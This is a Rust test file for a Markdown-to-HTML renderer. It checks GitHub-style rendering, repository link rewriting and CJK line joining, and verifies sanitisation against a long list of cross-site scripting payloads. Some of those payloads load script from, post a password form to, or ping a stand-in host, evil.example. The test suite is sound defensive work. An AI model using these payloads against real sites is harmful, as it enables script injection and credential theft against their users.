//! Markdown to safe HTML.

use geoml_hub::cards::{LinkBase, render};

fn base() -> LinkBase {
    LinkBase {
        link_prefix: "/ana/rain/blob/main/".to_owned(),
        image_prefix: "/api/ana/rain/download/".to_owned(),
        image_suffix: "?revision=main".to_owned(),
        ..LinkBase::default()
    }
}

fn html(markdown: &str) -> String {
    render(markdown, &base()).html
}

#[test]
fn the_dialect_of_github_is_rendered() {
    for (markdown, part) in [
        (
            "# Rain fall",
            "<h1 id=\"user-content-rain-fall\">Rain fall<a href=\"#user-content-rain-fall\"",
        ),
        ("| a | b |\n|:-:|---|\n| 1 | 2 |\n", "<td align=\"center\">1</td>"),
        ("- [x] done\n", "checked=\"\""),
        ("~~old~~", "<del>old</del>"),
        (
            "see https://example.org/a",
            "<a href=\"https://example.org/a\" rel=\"nofollow noopener\">",
        ),
        ("$E = mc^2$", "<span data-math-style=\"inline\">E = mc^2</span>"),
        ("$$x$$", "<span data-math-style=\"display\">x</span>"),
        ("```python\na < b\n```", "<code class=\"language-python\">a &lt; b"),
        (
            "> [!NOTE]\n> Mind this\n",
            "class=\"markdown-alert markdown-alert-note\"",
        ),
        (
            "<details><summary>More</summary>text</details>",
            "<details><summary>More</summary>text</details>",
        ),
        (
            "<p align=\"center\"><img src=\"logo.png\" width=\"20\"></p>",
            "<p align=\"center\"><img ",
        ),
        ("**降水**预测", "<strong>降水</strong>预测"),
    ] {
        assert!(html(markdown).contains(part), "{markdown} gives {}", html(markdown));
    }
}

#[test]
fn footnotes_lead_to_each_other() {
    let html = html("a[^n]\n\n[^n]: note\n");
    assert!(
        html.contains("href=\"#user-content-fn-n\"") && html.contains("id=\"user-content-fn-n\""),
        "{html}"
    );
    assert!(
        html.contains("href=\"#user-content-fnref-n\"") && html.contains("id=\"user-content-fnref-n\""),
        "{html}"
    );
}

#[test]
fn relative_addresses_lead_into_the_repository() {
    for (markdown, part) in [
        ("[a](docs/use.md#run)", "href=\"/ana/rain/blob/main/docs/use.md#run\""),
        ("[a](../../etc)", "href=\"/ana/rain/blob/main/etc\""),
        ("[a](#part)", "href=\"#user-content-part\""),
        (
            "![i](./img/雨.png)",
            "src=\"/api/ana/rain/download/img/%E9%9B%A8.png?revision=main\"",
        ),
        (
            "<img src='img/a.png'>",
            "src=\"/api/ana/rain/download/img/a.png?revision=main\"",
        ),
        ("![i](https://example.org/a.png)", "src=\"https://example.org/a.png\""),
    ] {
        assert!(html(markdown).contains(part), "{markdown} gives {}", html(markdown));
    }
}

/// Things that must not come through, from the usual collections of attacks on Markdown and HTML filters.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' ",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<input type=text onfocus=alert(1) autofocus>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](x\"onerror=\"alert(1))",
    "[x](x 'a\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "```<script>alert(1)</script>\nx\n```",
    "``` x\" onmouseover=\"alert(1)\nx\n```",
    "$<img src=x onerror=alert(1)>$",
    "`$<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n",
    "<a href=\"https://example.org\" target=_blank ping=https://evil.example>x</a>",
    "<p id=cookie name=cookie class='navbar admin'>x</p>",
    "<img srcset='x 1x' src=x style=x>",
    "<b/onclick=alert(1)>x</b>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<table><td background='javascript:alert(1)'>x</td></table>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
];

#[test]
fn no_attack_comes_through() {
    const TAGS: &[&str] = &[
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "svg",
        "math",
        "form",
        "button",
        "base",
        "meta",
        "link",
        "video",
        "audio",
        "textarea",
        "select",
        "template",
        "noscript",
        "marquee",
        "xmp",
        "plaintext",
        "frameset",
        "body",
    ];
    for attack in ATTACKS {
        for markdown in [
            (*attack).to_owned(),
            format!("text {attack} text"),
            format!("- a\n\n  {attack}\n"),
            format!("> {attack}\n"),
        ] {
            let html = html(&markdown);
            for (tag, attributes) in tags_of(&html) {
                assert!(!TAGS.contains(&tag.as_str()), "{markdown} gives {html}");
                for (name, value) in attributes {
                    let plain: String = value
                        .chars()
                        .filter(|c| !c.is_whitespace() && !c.is_control())
                        .collect();
                    let plain = plain.to_lowercase();
                    assert!(
                        !name.starts_with("on") && name != "style" && name != "srcset",
                        "{markdown} gives {html}"
                    );
                    for scheme in ["javascript:", "vbscript:", "data:"] {
                        let is_address = matches!(name.as_str(), "href" | "src");
                        assert!(!(is_address && plain.starts_with(scheme)), "{markdown} gives {html}");
                    }
                    assert!(
                        name != "id" || value.starts_with("user-content-"),
                        "{markdown} gives {html}"
                    );
                    assert!(name != "class" || !value.contains("admin"), "{markdown} gives {html}");
                }
                assert!(
                    tag != "input" || html.contains("type=\"checkbox\""),
                    "{markdown} gives {html}"
                );
            }
        }
    }
}

/// Start tags of serialised HTML with their attributes. Enough for the output of a serialiser, which always quotes.
fn tags_of(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        if rest.starts_with('/') {
            continue;
        }
        let name_end = rest.find([' ', '>']).unwrap_or(rest.len());
        let name = rest[..name_end].to_owned();
        rest = &rest[name_end..];
        let mut attributes = Vec::new();
        while let Some(after) = rest.strip_prefix(' ') {
            let (name, after) = after.split_once("=\"").expect("a serialiser quotes");
            let (value, after) = after.split_once('"').expect("a serialiser closes");
            attributes.push((name.to_owned(), value.to_owned()));
            rest = after;
        }
        found.push((name, attributes));
    }
    found
}

#[test]
fn without_a_base_relative_addresses_stay_as_they_are() {
    for (markdown, kept) in [
        ("[x](./javascript:alert%281%29)", "href=\"./javascript:alert%281%29\""),
        ("<a href='/javascript:alert(1)'>x</a>", "href=\"/javascript:alert(1)\""),
        (
            "<a href='a/../javascript:alert(1)'>x</a>",
            "href=\"a/../javascript:alert(1)\"",
        ),
        (
            "<a href='.//javascript:alert(1)'>x</a>",
            "href=\".//javascript:alert(1)\"",
        ),
        ("![x](./data:image/svg)", "src=\"./data:image/svg\""),
        ("[x](./docs/a.md#part)", "href=\"./docs/a.md#part\""),
    ] {
        let html = render(markdown, &LinkBase::default()).html;
        assert!(html.contains(kept), "{markdown} gives {html}");
    }
}

#[test]
fn lines_of_chinese_are_joined_without_a_space_and_others_with_one() {
    assert_eq!(html("工作站上\n一次推理。\n完成"), "<p>工作站上一次推理。完成</p>\n");
    assert_eq!(html("雨と\nカタカナ"), "<p>雨とカタカナ</p>\n");
    assert_eq!(html("a line\nand 一\nmore\n二"), "<p>a line\nand 一\nmore\n二</p>\n");
    assert_eq!(html("한국\n어"), "<p>한국\n어</p>\n");
    assert_eq!(html("上\n\n下"), "<p>上</p>\n<p>下</p>\n");
}
